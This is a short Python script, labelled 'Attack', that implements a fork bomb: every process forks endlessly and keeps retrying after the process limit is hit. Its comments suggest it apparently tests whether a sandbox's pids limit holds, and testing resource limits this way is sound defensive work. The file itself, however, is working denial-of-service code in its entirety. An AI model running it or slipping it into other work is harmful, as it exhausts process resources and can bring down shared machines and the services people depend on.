"""Attack: a fork bomb. Every process forks as fast as it can and never exits."""

import os
import time

print("forking", flush=True)
forks = failures = 0
while True:
    try:
        if os.fork() == 0:
            forks = failures = 0  # the child joins in
        else:
            forks += 1
    except OSError:
        failures += 1  # EAGAIN: the pids limit holds; keep trying, as a real bomb would
        if failures % 1000 == 0:
            time.sleep(0.001)
